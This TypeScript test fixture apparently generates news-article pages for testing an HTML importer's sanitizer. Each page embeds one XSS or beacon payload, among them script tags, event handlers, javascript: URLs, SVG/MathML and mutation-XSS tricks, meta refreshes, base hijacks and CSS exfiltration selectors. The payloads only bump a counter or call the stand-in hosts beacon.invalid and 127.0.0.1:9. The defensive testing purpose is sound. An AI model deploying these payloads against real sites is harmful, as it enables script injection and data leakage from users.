/**
 * Saved news pages that each carry an attack: scripts, handlers, script URLs, frames, plugins,
 * SVG and MathML tricks, refreshes, base hijacks and CSS beacons. Each page is otherwise an
 * ordinary article with its own text, so the importer keeps every one (no duplicates).
 *
 * A script that runs bumps `window.__pwned`; a request that leaves goes to `beacon.invalid` or
 * 127.0.0.1:9, never to the app's own origin.
 */

export interface HostilePage {
  name: string;
  /** What kind of attack the page carries, for reporting counts. */
  category: string;
  html: string;
}

/** Where the attack sits in the page. */
type Placement = 'body' | 'head' | 'title' | 'meta' | 'page';

interface Attack {
  name: string;
  category: string;
  placement: Placement;
  /** Markup for the placement; for 'page' a whole document built by `page`. */
  markup: (n: number) => string;
}

export const SENTINEL = 'window.__pwned=(window.__pwned||0)+1';
const TOP = 'top.__pwned=(top.__pwned||0)+1';
const PARENT = 'parent.__pwned=(parent.__pwned||0)+1';

const beacon = (n: number, tag = '') => `http://beacon.invalid/${n}${tag}`;
const port9 = (n: number, tag = '') => `http://127.0.0.1:9/${n}${tag}`;
const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
/** `javascript:` spelled with HTML numeric character references. */
const entityJs = (code: string) =>
  [...`javascript:${code}`].map((char) => `&#${char.charCodeAt(0)};`).join('');

const ATTACKS: Attack[] = [
  // Inline and external scripts.
  {
    name: 'inline-script-body',
    category: 'script',
    placement: 'body',
    markup: () => `<script>${SENTINEL}</script>`,
  },
  {
    name: 'inline-script-head',
    category: 'script',
    placement: 'head',
    markup: () => `<script>${SENTINEL}</script>`,
  },
  {
    name: 'script-src-beacon',
    category: 'script',
    placement: 'head',
    markup: (n) => `<script src="${beacon(n, '.js')}"></script>`,
  },
  {
    name: 'script-src-port9',
    category: 'script',
    placement: 'body',
    markup: (n) => `<script src="${port9(n, '.js')}"></script>`,
  },
  {
    name: 'script-data-url',
    category: 'script',
    placement: 'body',
    markup: () => `<script src="data:text/javascript,${encodeURIComponent(SENTINEL)}"></script>`,
  },
  {
    name: 'script-module',
    category: 'script',
    placement: 'body',
    markup: () => `<script type="module">${SENTINEL}</script>`,
  },
  {
    name: 'script-top-variant',
    category: 'script',
    placement: 'body',
    markup: () => `<script>${TOP}</script>`,
  },
  {
    name: 'script-parent-variant',
    category: 'script',
    placement: 'body',
    markup: () => `<script>${PARENT}</script>`,
  },
  {
    name: 'script-uppercase-spaced',
    category: 'script',
    placement: 'body',
    markup: () => `<SCRIPT >${SENTINEL}</SCRIPT >`,
  },
  {
    name: 'script-split-nested',
    category: 'script',
    placement: 'body',
    markup: () => `<scr<script>ipt>${SENTINEL}</scr</script>ipt>`,
  },
  {
    name: 'script-in-paragraph',
    category: 'script',
    placement: 'body',
    markup: () =>
      `<p>The council clerk read the minutes aloud. <script>${SENTINEL}</script> Members then voted.</p>`,
  },

  // Event handlers.
  {
    name: 'img-onerror',
    category: 'event-handler',
    placement: 'body',
    markup: () => `<img src=x onerror="${SENTINEL}">`,
  },
  {
    name: 'img-onerror-beacon',
    category: 'event-handler',
    placement: 'body',
    markup: (n) => `<img src="${beacon(n, '.png')}" onerror="${SENTINEL}">`,
  },
  {
    name: 'img-onload-data',
    category: 'event-handler',
    placement: 'body',
    markup: () => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${SENTINEL}">`,
  },
  {
    name: 'body-onload',
    category: 'event-handler',
    placement: 'page',
    markup: (n) => page(n, { bodyAttributes: `onload="${SENTINEL}"` }),
  },
  {
    name: 'p-onclick',
    category: 'event-handler',
    placement: 'body',
    markup: () =>
      `<p onclick="${SENTINEL}">Residents who attended the meeting were asked to click here for the agenda.</p>`,
  },
  {
    name: 'p-onmouseover',
    category: 'event-handler',
    placement: 'body',
    markup: () =>
      `<p onmouseover="${SENTINEL}" style="position:fixed;inset:0">Officials described the plan as a first step.</p>`,
  },
  {
    name: 'input-onfocus-autofocus',
    category: 'event-handler',
    placement: 'body',
    markup: () => `<input autofocus onfocus="${SENTINEL}">`,
  },
  {
    name: 'details-ontoggle',
    category: 'event-handler',
    placement: 'body',
    markup: () =>
      `<details open ontoggle="${SENTINEL}"><summary>More</summary>Background notes.</details>`,
  },
  {
    name: 'div-onanimationstart',
    category: 'event-handler',
    placement: 'body',
    markup: () =>
      `<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="${SENTINEL}">Timeline</div>`,
  },
  {
    name: 'video-onerror',
    category: 'event-handler',
    placement: 'body',
    markup: () => `<video src=x onerror="${SENTINEL}"></video>`,
  },
  {
    name: 'audio-onerror',
    category: 'event-handler',
    placement: 'body',
    markup: () => `<audio src=x onerror="${SENTINEL}"></audio>`,
  },
  {
    name: 'marquee-onstart',
    category: 'event-handler',
    placement: 'body',
    markup: () => `<marquee onstart="${SENTINEL}">Breaking</marquee>`,
  },
  {
    name: 'iframe-onload',
    category: 'event-handler',
    placement: 'body',
    markup: () => `<iframe onload="${SENTINEL}"></iframe>`,
  },
  {
    name: 'entity-encoded-handler',
    category: 'event-handler',
    placement: 'body',
    markup: () =>
      `<img src=x onerror="&#119;&#105;&#110;&#100;&#111;&#119;.__pwned=(window.__pwned||0)+1">`,
  },
  {
    name: 'handler-no-quotes-slash',
    category: 'event-handler',
    placement: 'body',
    markup: () => `<img/src=x/onerror=${SENTINEL.replace(/ /g, '')}>`,
  },
  {
    name: 'onpageshow-body',
    category: 'event-handler',
    placement: 'page',
    markup: (n) => page(n, { bodyAttributes: `onpageshow="${SENTINEL}"` }),
  },
  {
    name: 'onbeforeprint-onhashchange',
    category: 'event-handler',
    placement: 'page',
    markup: (n) =>
      page(n, { bodyAttributes: `onhashchange="${SENTINEL}" onbeforeprint="${SENTINEL}"` }),
  },
  {
    name: 'select-onfocus-autofocus',
    category: 'event-handler',
    placement: 'body',
    markup: () => `<select autofocus onfocus="${SENTINEL}"><option>1</option></select>`,
  },
  {
    name: 'contenteditable-onfocus',
    category: 'event-handler',
    placement: 'body',
    markup: () => `<div contenteditable autofocus onfocusin="${SENTINEL}">Edit me</div>`,
  },

  // Script and data URLs.
  {
    name: 'a-href-javascript',
    category: 'javascript-url',
    placement: 'body',
    markup: () =>
      `<p>Read the <a href="javascript:${SENTINEL}">full statement</a> from the ministry.</p>`,
  },
  {
    name: 'a-href-data-html',
    category: 'javascript-url',
    placement: 'body',
    markup: () =>
      `<a href="data:text/html;base64,${base64(`<script>${TOP}</script>`)}">Document</a>`,
  },
  {
    name: 'a-href-javascript-tab',
    category: 'javascript-url',
    placement: 'body',
    markup: () => `<a href="jav&#x09;ascript:${SENTINEL}">Tabbed link</a>`,
  },
  {
    name: 'a-href-entity-javascript',
    category: 'javascript-url',
    placement: 'body',
    markup: () => `<a href="${entityJs(SENTINEL)}">Encoded link</a>`,
  },
  {
    name: 'a-href-unicode-escaped',
    category: 'javascript-url',
    placement: 'body',
    markup: () => `<a href="\\u006aavascript:${SENTINEL}">Unicode link</a>`,
  },
  {
    name: 'form-action-javascript',
    category: 'javascript-url',
    placement: 'body',
    markup: () => `<form action="javascript:${SENTINEL}"><input type=submit value=Go></form>`,
  },
  {
    name: 'button-formaction',
    category: 'javascript-url',
    placement: 'body',
    markup: () => `<form><button formaction="javascript:${SENTINEL}">Subscribe</button></form>`,
  },
  {
    name: 'iframe-src-javascript',
    category: 'javascript-url',
    placement: 'body',
    markup: () => `<iframe src="javascript:${PARENT}"></iframe>`,
  },
  {
    name: 'iframe-src-data-html',
    category: 'javascript-url',
    placement: 'body',
    markup: () =>
      `<iframe src="data:text/html,<script>${encodeURIComponent(PARENT)}</script>"></iframe>`,
  },
  {
    name: 'object-data-javascript',
    category: 'javascript-url',
    placement: 'body',
    markup: () => `<object data="javascript:${SENTINEL}"></object>`,
  },
  {
    name: 'embed-src-javascript',
    category: 'javascript-url',
    placement: 'body',
    markup: () => `<embed src="javascript:${SENTINEL}">`,
  },
  {
    name: 'area-href-javascript',
    category: 'javascript-url',
    placement: 'body',
    markup: () =>
      `<map name=m><area shape=rect coords=0,0,99,99 href="javascript:${SENTINEL}"></map><img usemap=#m src=x>`,
  },
  {
    name: 'uppercase-javascript-url',
    category: 'javascript-url',
    placement: 'body',
    markup: () => `<a href=" JaVaScRiPt:${SENTINEL}">Mixed case</a>`,
  },
  {
    name: 'vbscript-url',
    category: 'javascript-url',
    placement: 'body',
    markup: () => `<a href="vbscript:msgbox(1)">Legacy link</a>`,
  },
  {
    name: 'isindex-action',
    category: 'javascript-url',
    placement: 'body',
    markup: () =>
      `<isindex type=image src=1 onerror="${SENTINEL}" action="javascript:${SENTINEL}">`,
  },

  // Frames.
  {
    name: 'iframe-srcdoc',
    category: 'iframe',
    placement: 'body',
    markup: () => `<iframe srcdoc="<script>${PARENT}</script>"></iframe>`,
  },
  {
    name: 'iframe-srcdoc-encoded',
    category: 'iframe',
    placement: 'body',
    markup: () => `<iframe srcdoc="&lt;img src=x onerror=&quot;${TOP}&quot;&gt;"></iframe>`,
  },
  {
    name: 'iframe-src-beacon',
    category: 'iframe',
    placement: 'body',
    markup: (n) => `<iframe src="${beacon(n, '/frame')}"></iframe>`,
  },
  {
    name: 'frameset',
    category: 'iframe',
    placement: 'page',
    markup: (n) =>
      page(n, { afterBody: `<frameset><frame src="${beacon(n, '/frame')}"></frameset>` }),
  },
  {
    name: 'iframe-in-head',
    category: 'iframe',
    placement: 'head',
    markup: (n) => `<iframe src="${port9(n)}"></iframe>`,
  },

  // Plugins.
  {
    name: 'object-data-beacon',
    category: 'object-embed',
    placement: 'body',
    markup: (n) =>
      `<object data="${beacon(n, '.swf')}" type="application/x-shockwave-flash"></object>`,
  },
  {
    name: 'object-data-html',
    category: 'object-embed',
    placement: 'body',
    markup: () =>
      `<object data="data:text/html,<script>${encodeURIComponent(PARENT)}</script>"></object>`,
  },
  {
    name: 'object-param',
    category: 'object-embed',
    placement: 'body',
    markup: (n) =>
      `<object><param name=src value="${beacon(n)}"><param name=movie value="javascript:${SENTINEL}"></object>`,
  },
  {
    name: 'embed-src-beacon',
    category: 'object-embed',
    placement: 'body',
    markup: (n) => `<embed src="${port9(n, '.swf')}">`,
  },
  {
    name: 'embed-svg-data',
    category: 'object-embed',
    placement: 'body',
    markup: () =>
      `<embed type="image/svg+xml" src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${PARENT}"/>`)}">`,
  },
  {
    name: 'applet',
    category: 'object-embed',
    placement: 'body',
    markup: (n) => `<applet code="X.class" codebase="${beacon(n)}"></applet>`,
  },
  {
    name: 'portal',
    category: 'object-embed',
    placement: 'body',
    markup: (n) => `<portal src="${beacon(n, '/portal')}"></portal>`,
  },

  // SVG.
  {
    name: 'svg-onload',
    category: 'svg',
    placement: 'body',
    markup: () => `<svg onload="${SENTINEL}"></svg>`,
  },
  {
    name: 'svg-script',
    category: 'svg',
    placement: 'body',
    markup: () => `<svg><script>${SENTINEL}</script></svg>`,
  },
  {
    name: 'svg-script-href',
    category: 'svg',
    placement: 'body',
    markup: (n) => `<svg><script href="${beacon(n, '.js')}"></script></svg>`,
  },
  {
    name: 'svg-use-href',
    category: 'svg',
    placement: 'body',
    markup: (n) => `<svg><use href="${beacon(n, '.svg#x')}"/></svg>`,
  },
  {
    name: 'svg-use-data',
    category: 'svg',
    placement: 'body',
    markup: () =>
      `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${SENTINEL}"/></svg>`)}#x"/></svg>`,
  },
  {
    name: 'svg-animate-href',
    category: 'svg',
    placement: 'body',
    markup: () =>
      `<svg><a><animate attributeName=href values="javascript:${SENTINEL}"/><text x=20 y=20>Map</text></a></svg>`,
  },
  {
    name: 'svg-set-href',
    category: 'svg',
    placement: 'body',
    markup: () =>
      `<svg><a><set attributeName=href to="javascript:${SENTINEL}"/><text x=20 y=20>Chart</text></a></svg>`,
  },
  {
    name: 'svg-foreignobject',
    category: 'svg',
    placement: 'body',
    markup: () => `<svg><foreignObject><img src=x onerror="${SENTINEL}"></foreignObject></svg>`,
  },
  {
    name: 'svg-image-beacon',
    category: 'svg',
    placement: 'body',
    markup: (n) => `<svg><image href="${beacon(n, '.png')}"/></svg>`,
  },
  {
    name: 'svg-animate-onbegin',
    category: 'svg',
    placement: 'body',
    markup: () => `<svg><animate onbegin="${SENTINEL}" attributeName=x dur=1s /></svg>`,
  },
  {
    name: 'svg-xlink-href',
    category: 'svg',
    placement: 'body',
    markup: () =>
      `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${SENTINEL}"><text x=10 y=10>Graph</text></a></svg>`,
  },
  {
    name: 'svg-style-cdata',
    category: 'svg',
    placement: 'body',
    markup: () => `<svg><style><![CDATA[</style><img src=x onerror="${SENTINEL}">]]></style></svg>`,
  },
  {
    name: 'svg-feimage',
    category: 'svg',
    placement: 'body',
    markup: (n) =>
      `<svg><filter id=f><feImage href="${beacon(n, '.png')}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  },

  // MathML.
  {
    name: 'mathml-mglyph-style',
    category: 'mathml',
    placement: 'body',
    markup: () => `<math><mtext><table><mglyph><style><img src=x onerror="${SENTINEL}">`,
  },
  {
    name: 'mathml-maction-href',
    category: 'mathml',
    placement: 'body',
    markup: () =>
      `<math><maction actiontype="statusline" xlink:href="javascript:${SENTINEL}">Click<mtext>x</mtext></maction></math>`,
  },
  {
    name: 'mathml-mi-href',
    category: 'mathml',
    placement: 'body',
    markup: () => `<math><mi href="javascript:${SENTINEL}">x</mi></math>`,
  },
  {
    name: 'mathml-annotation-xml',
    category: 'mathml',
    placement: 'body',
    markup: () =>
      `<math><annotation-xml encoding="text/html"><img src=x onerror="${SENTINEL}"></annotation-xml></math>`,
  },
  {
    name: 'mathml-mtext-svg',
    category: 'mathml',
    placement: 'body',
    markup: () =>
      `<math><mtext><svg><style><img src=x onerror="${SENTINEL}"></style></svg></mtext></math>`,
  },

  // Mutation XSS and namespace confusion.
  {
    name: 'mxss-noscript-title',
    category: 'mxss',
    placement: 'body',
    markup: () =>
      `<noscript><p title="</noscript><img src=x onerror=${SENTINEL.replace(/ /g, '')}>"></noscript>`,
  },
  {
    name: 'mxss-form-math',
    category: 'mxss',
    placement: 'body',
    markup: () =>
      `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${SENTINEL}">`,
  },
  {
    name: 'mxss-svg-p-style',
    category: 'mxss',
    placement: 'body',
    markup: () =>
      `<svg></p><style><a id="</style><img src=x onerror=${SENTINEL.replace(/ /g, '')}>">`,
  },
  {
    name: 'mxss-math-style-comment',
    category: 'mxss',
    placement: 'body',
    markup: () => `<math><style><!--</style><img src=x onerror="${SENTINEL}">--></style></math>`,
  },
  {
    name: 'mxss-listing-entities',
    category: 'mxss',
    placement: 'body',
    markup: () => `<listing>&lt;img src=x onerror=${SENTINEL.replace(/ /g, '')}&gt;</listing>`,
  },
  {
    name: 'mxss-backtick-attribute',
    category: 'mxss',
    placement: 'body',
    markup: () => `<img src="x\` \`<script>${SENTINEL}</script>"\` \`>`,
  },
  {
    name: 'mxss-table-svg',
    category: 'mxss',
    placement: 'body',
    markup: () => `<table><svg><tr><td><img src=x onerror="${SENTINEL}"></td></tr></svg></table>`,
  },
  {
    name: 'mxss-xmp',
    category: 'mxss',
    placement: 'body',
    markup: () => `<xmp></xmp><img src=x onerror="${SENTINEL}"></xmp>`,
  },

  // Navigation.
  {
    name: 'meta-refresh-beacon',
    category: 'navigation',
    placement: 'head',
    markup: (n) => `<meta http-equiv="refresh" content="0;url=${beacon(n)}">`,
  },
  {
    name: 'meta-refresh-javascript',
    category: 'navigation',
    placement: 'head',
    markup: () => `<meta http-equiv="refresh" content="0;url=javascript:${SENTINEL}">`,
  },
  {
    name: 'meta-refresh-data',
    category: 'navigation',
    placement: 'body',
    markup: () =>
      `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64(`<script>${SENTINEL}</script>`)}">`,
  },
  {
    name: 'meta-csp-override',
    category: 'navigation',
    placement: 'head',
    markup: () =>
      `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`,
  },
  {
    name: 'base-href',
    category: 'navigation',
    placement: 'head',
    markup: (n) => `<base href="${beacon(n, '/')}">`,
  },
  {
    name: 'base-javascript',
    category: 'navigation',
    placement: 'head',
    markup: () => `<base href="javascript:${SENTINEL}//">`,
  },
  {
    name: 'a-target-top',
    category: 'navigation',
    placement: 'body',
    markup: (n) => `<a href="${beacon(n)}" target="_top" id="x">Continue reading</a>`,
  },
  {
    name: 'a-ping',
    category: 'navigation',
    placement: 'body',
    markup: (n) => `<a href="#more" ping="${beacon(n, '/ping')}">More coverage</a>`,
  },
  {
    name: 'form-autosubmit',
    category: 'navigation',
    placement: 'body',
    markup: (n) =>
      `<form action="${port9(n)}" method="post"><input name=q value=1 autofocus onfocus="this.form.submit()"></form>`,
  },

  // Subresource beacons.
  {
    name: 'link-stylesheet',
    category: 'link',
    placement: 'head',
    markup: (n) => `<link rel="stylesheet" href="${beacon(n, '.css')}">`,
  },
  {
    name: 'link-prefetch',
    category: 'link',
    placement: 'head',
    markup: (n) => `<link rel="prefetch" href="${beacon(n, '/prefetch')}">`,
  },
  {
    name: 'link-preload',
    category: 'link',
    placement: 'head',
    markup: (n) => `<link rel="preload" as="image" href="${port9(n, '.png')}">`,
  },
  {
    name: 'link-dns-prefetch',
    category: 'link',
    placement: 'head',
    markup: (n) =>
      `<link rel="dns-prefetch" href="//dns${n}.beacon.invalid"><link rel="preconnect" href="${beacon(n)}">`,
  },
  {
    name: 'link-import-icon',
    category: 'link',
    placement: 'head',
    markup: (n) =>
      `<link rel="import" href="${beacon(n, '.html')}"><link rel="icon" href="${beacon(n, '.ico')}">`,
  },
  {
    name: 'link-modulepreload',
    category: 'link',
    placement: 'body',
    markup: (n) => `<link rel="modulepreload" href="${beacon(n, '.mjs')}">`,
  },

  // CSS beacons.
  {
    name: 'css-style-attribute',
    category: 'css',
    placement: 'body',
    markup: (n) =>
      `<p style="background-image:url(${beacon(n, '.png')})">Flood barriers held overnight, engineers said.</p>`,
  },
  {
    name: 'css-style-import',
    category: 'css',
    placement: 'head',
    markup: (n) => `<style>@import url("${beacon(n, '.css')}");</style>`,
  },
  {
    name: 'css-font-face',
    category: 'css',
    placement: 'head',
    markup: (n) =>
      `<style>@font-face{font-family:x;src:url(${port9(n, '.woff')})}body{font-family:x}</style>`,
  },
  {
    name: 'css-background',
    category: 'css',
    placement: 'body',
    markup: (n) => `<style>article{background:url('${beacon(n, '.gif')}')}</style>`,
  },
  {
    name: 'css-expression-behavior',
    category: 'css',
    placement: 'body',
    markup: () => `<div style="width:expression(${SENTINEL});behavior:url(x.htc)">Legacy</div>`,
  },
  {
    name: 'css-escaped-url',
    category: 'css',
    placement: 'body',
    markup: (n) => `<div style="background:\\75\\72\\6c(${beacon(n, '.png')})">Escaped</div>`,
  },
  {
    name: 'css-attr-selector-exfil',
    category: 'css',
    placement: 'head',
    markup: (n) =>
      `<style>input[value^=a]{background:url(${beacon(n, '/a')})}*{list-style-image:url(${port9(n, '/li')})}</style>`,
  },

  // Media and images.
  {
    name: 'img-srcset',
    category: 'media',
    placement: 'body',
    markup: (n) =>
      `<img srcset="${beacon(n, '-1x.png')} 1x, ${beacon(n, '-2x.png')} 2x" alt="Harbour">`,
  },
  {
    name: 'img-beacon-pixel',
    category: 'media',
    placement: 'body',
    markup: (n) => `<img src="${port9(n, '.gif')}" width=1 height=1>`,
  },
  {
    name: 'video-poster',
    category: 'media',
    placement: 'body',
    markup: (n) =>
      `<video poster="${beacon(n, '-poster.jpg')}"><source src="${beacon(n, '.mp4')}"></video>`,
  },
  {
    name: 'audio-src',
    category: 'media',
    placement: 'body',
    markup: (n) => `<audio src="${port9(n, '.mp3')}" autoplay></audio>`,
  },
  {
    name: 'picture-source-srcset',
    category: 'media',
    placement: 'body',
    markup: (n) =>
      `<picture><source srcset="${beacon(n, '.webp')}"><img src="${beacon(n, '.jpg')}"></picture>`,
  },
  {
    name: 'input-type-image',
    category: 'media',
    placement: 'body',
    markup: (n) => `<input type="image" src="${beacon(n, '-button.png')}">`,
  },
  {
    name: 'body-background',
    category: 'media',
    placement: 'page',
    markup: (n) => page(n, { bodyAttributes: `background="${beacon(n, '-bg.png')}"` }),
  },
  {
    name: 'table-background',
    category: 'media',
    placement: 'body',
    markup: (n) =>
      `<table background="${port9(n, '-bg.png')}"><tr><td>Turnout figures by district</td></tr></table>`,
  },
  {
    name: 'track-src',
    category: 'media',
    placement: 'body',
    markup: (n) => `<video><track kind=captions src="${beacon(n, '.vtt')}" default></video>`,
  },

  // Breakouts of raw-text and template elements.
  {
    name: 'noscript-breakout',
    category: 'breakout',
    placement: 'body',
    markup: () => `<noscript></noscript><script>${SENTINEL}</script>`,
  },
  {
    name: 'template-content',
    category: 'breakout',
    placement: 'body',
    markup: () => `<template><img src=x onerror="${SENTINEL}"></template>`,
  },
  {
    name: 'textarea-breakout',
    category: 'breakout',
    placement: 'body',
    markup: () => `<textarea></textarea><img src=x onerror="${SENTINEL}"></textarea>`,
  },
  {
    name: 'title-breakout-body',
    category: 'breakout',
    placement: 'body',
    markup: () => `<title></title><img src=x onerror="${SENTINEL}">`,
  },
  {
    name: 'style-breakout',
    category: 'breakout',
    placement: 'body',
    markup: () => `<style></style><img src=x onerror="${SENTINEL}"></style>`,
  },
  {
    name: 'iframe-text-breakout',
    category: 'breakout',
    placement: 'body',
    markup: () => `<iframe></iframe><img src=x onerror="${SENTINEL}"></iframe>`,
  },
  {
    name: 'plaintext',
    category: 'breakout',
    placement: 'body',
    markup: () => `<plaintext><img src=x onerror="${SENTINEL}">`,
  },

  // Comments and CDATA.
  {
    name: 'conditional-comment',
    category: 'comment-cdata',
    placement: 'body',
    markup: () => `<!--[if gte IE 4]><script>${SENTINEL}</script><![endif]-->`,
  },
  {
    name: 'comment-bang-close',
    category: 'comment-cdata',
    placement: 'body',
    markup: () => `<!-- --!><img src=x onerror="${SENTINEL}"> -->`,
  },
  {
    name: 'cdata-in-html',
    category: 'comment-cdata',
    placement: 'body',
    markup: () => `<![CDATA[><img src=x onerror="${SENTINEL}">]]>`,
  },
  {
    name: 'processing-instruction',
    category: 'comment-cdata',
    placement: 'body',
    markup: () =>
      `<?xml-stylesheet href="${beacon(0, '.xsl')}"?><? ><img src=x onerror="${SENTINEL}"> ?>`,
  },

  // Attacks in the fields the importer keeps: title, byline, site name, description.
  {
    name: 'title-img-markup',
    category: 'metadata',
    placement: 'title',
    markup: () => `Council vote on harbour plan <img src=x onerror="${SENTINEL}">`,
  },
  {
    name: 'title-script-markup',
    category: 'metadata',
    placement: 'title',
    markup: () => `Port strike talks resume </title><script>${SENTINEL}</script>`,
  },
  {
    name: 'og-title-markup',
    category: 'metadata',
    placement: 'meta',
    markup: () =>
      `<meta property="og:title" content="Regional budget passes &lt;img src=x onerror=&quot;${SENTINEL}&quot;&gt;">`,
  },
  {
    name: 'byline-markup',
    category: 'metadata',
    placement: 'meta',
    markup: () =>
      `<meta name="author" content="Jane Doe <img src=x onerror=${SENTINEL.replace(/ /g, '')}>">`,
  },
  {
    name: 'site-name-markup',
    category: 'metadata',
    placement: 'meta',
    markup: () =>
      `<meta property="og:site_name" content="<svg onload=${SENTINEL.replace(/ /g, '')}>Daily Ledger">`,
  },
  {
    name: 'description-markup',
    category: 'metadata',
    placement: 'meta',
    markup: () =>
      `<meta name="description" content="<iframe srcdoc='<script>${PARENT}</script>'></iframe>">`,
  },
  {
    name: 'canonical-javascript',
    category: 'metadata',
    placement: 'meta',
    markup: () =>
      `<link rel="canonical" href="javascript:${SENTINEL}"><meta property="og:url" content="javascript:${SENTINEL}">`,
  },
  {
    name: 'published-time-markup',
    category: 'metadata',
    placement: 'meta',
    markup: () =>
      `<meta property="article:published_time" content="<img src=x onerror=${SENTINEL.replace(/ /g, '')}>">`,
  },

  // Text in the article that looks like markup (entity-escaped, so it is text, not tags).
  {
    name: 'text-looks-like-script',
    category: 'text-as-markup',
    placement: 'body',
    markup: () =>
      `<p>A reader wrote in with the string &lt;script&gt;${SENTINEL}&lt;/script&gt; and asked whether it was dangerous.</p>`,
  },
  {
    name: 'text-looks-like-img',
    category: 'text-as-markup',
    placement: 'body',
    markup: () =>
      `<p>The forum post contained &lt;img src=x onerror=&quot;${SENTINEL}&quot;&gt; before moderators removed it.</p>`,
  },
  {
    name: 'text-looks-like-iframe',
    category: 'text-as-markup',
    placement: 'body',
    markup: () =>
      `<p>Researchers quoted the payload &lt;iframe srcdoc=&quot;&amp;lt;script&amp;gt;${PARENT}&amp;lt;/script&amp;gt;&quot;&gt; in their report.</p>`,
  },
  {
    name: 'text-looks-like-svg',
    category: 'text-as-markup',
    placement: 'body',
    markup: () =>
      `<p>Its signature, &lt;svg/onload=${SENTINEL.replace(/ /g, '')}&gt;, was blocked by the filter.</p>`,
  },
  {
    name: 'text-javascript-url',
    category: 'text-as-markup',
    placement: 'body',
    markup: () =>
      `<p>Investigators traced links of the form javascript:${SENTINEL} to the campaign.</p>`,
  },
];

/*
 * The benign prose. Every page is built from sentences drawn with a PRNG seeded by its number,
 * from pools spread over several topics, with its own names, places and figures, so that no two
 * pages share a passage and the comparison engine finds them unrelated.
 */

/** mulberry32: a small seeded PRNG, so the corpus is the same on every run. */
function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Draw = {
  <T>(items: readonly T[]): T;
  int(min: number, max: number): number;
};

function drawer(seed: number): Draw {
  const next = random(seed);
  const draw = <T>(items: readonly T[]): T => {
    const item = items[Math.floor(next() * items.length)];
    if (item === undefined) throw new RangeError('empty pool');
    return item;
  };
  draw.int = (min: number, max: number) => min + Math.floor(next() * (max - min + 1));
  return draw;
}

const FIRST_NAMES = [
  'Amara',
  'Bogdan',
  'Chiara',
  'Dawit',
  'Elif',
  'Farid',
  'Greta',
  'Hiroshi',
  'Ines',
  'Jonas',
  'Kalani',
  'Lucia',
  'Mateus',
  'Nadia',
  'Oskar',
  'Priya',
  'Quentin',
  'Rosa',
  'Sione',
  'Tamsin',
  'Umar',
  'Vera',
  'Wanjiru',
  'Xavier',
  'Yasmin',
  'Zoltan',
  'Aoife',
  'Bilal',
  'Carmen',
  'Dmitri',
  'Esther',
  'Femi',
  'Gulnara',
  'Henrik',
  'Isabela',
  'Jae-won',
  'Kofi',
  'Leila',
  'Marek',
  'Noor',
];
const SURNAMES = [
  'Abernethy',
  'Baptiste',
  'Castellanos',
  'Dlamini',
  'Eriksen',
  'Fonseca',
  'Gallagher',
  'Hakimi',
  'Ivanova',
  'Jaramillo',
  'Kowalczyk',
  'Lindqvist',
  'Mwangi',
  'Nakamura',
  'Okafor',
  'Petrovic',
  'Quiroga',
  'Rahimi',
  'Szabo',
  'Tanaka',
  'Urquhart',
  'Valdivia',
  'Whitcombe',
  'Yilmaz',
  'Zielinski',
  'Achterberg',
  'Brannigan',
  'Chaudhry',
  'Delacroix',
  'Esposito',
  'Fairweather',
  'Grimaldi',
  'Haugland',
  'Iwasaki',
  'Jovanovic',
  'Kavanagh',
  'Lungu',
  'Moreau',
];
const CITIES = [
  'Lisbon',
  'Nairobi',
  'Osaka',
  'Tbilisi',
  'Quito',
  'Tallinn',
  'Perth',
  'Accra',
  'Bergen',
  'Cordoba',
  'Dundee',
  'Esbjerg',
  'Fresno',
  'Gdansk',
  'Hobart',
  'Izmir',
  'Jaipur',
  'Kaunas',
  'Leipzig',
  'Mombasa',
  'Nantes',
  'Oaxaca',
  'Porto',
  'Recife',
  'Salta',
  'Tampere',
  'Utrecht',
  'Valparaiso',
  'Windhoek',
  'Zagreb',
  'Arequipa',
  'Bilbao',
  'Cork',
  'Durban',
  'Graz',
  'Halifax',
];
const MASTHEADS = [
  'Courier',
  'Herald',
  'Gazette',
  'Observer',
  'Ledger',
  'Post',
  'Tribune',
  'Chronicle',
  'Record',
  'Examiner',
  'Dispatch',
  'Sentinel',
  'Argus',
  'Mercury',
  'Standard',
  'Telegraph',
];
const DAYS = [
  'on Monday',
  'on Tuesday',
  'on Wednesday',
  'on Thursday',
  'on Friday',
  'at the weekend',
  'late on Sunday',
  'this morning',
  'overnight',
  'yesterday afternoon',
];
const MONTHS = [
  'January',
  'February',
  'March',
  'April',
  'May',
  'June',
  'July',
  'August',
  'September',
  'October',
  'November',
  'December',
];

interface Topic {
  section: string;
  /** Who speaks or acts: role phrases without a name. */
  roles: readonly string[];
  /** Bodies that act: "the ..." */
  bodies: readonly string[];
  /** Past-tense verbs that take one of `things`. */
  verbs: readonly string[];
  things: readonly string[];
  /** Clauses that explain why. */
  reasons: readonly string[];
  /** Figures: `#` is replaced by a number. */
  figures: readonly string[];
  /** What someone said, as a quoted clause. */
  quotes: readonly string[];
  /** Places the story happens. */
  places: readonly string[];
}

const TOPICS: readonly Topic[] = [
  {
    section: 'Weather',
    roles: [
      'a duty forecaster',
      'the coastguard commander',
      'a hydrologist',
      'the fire chief',
      'a farmer near the estuary',
      'the ferry operator',
    ],
    bodies: [
      'meteorological office',
      'coastguard',
      'civil protection agency',
      'river authority',
      'road gritting service',
    ],
    verbs: ['issued', 'extended', 'lifted', 'downgraded', 'upgraded', 'cancelled'],
    things: [
      'an amber wind warning',
      'the frost advisory',
      'a flood alert for low-lying farms',
      'the heat-health bulletin',
      'a snow warning for the mountain passes',
      'its storm surge forecast',
    ],
    reasons: [
      'gusts reached hurricane force on the headland',
      'the river crested a metre above its banks',
      'hail flattened the vineyards south of town',
      'fog grounded every evening flight',
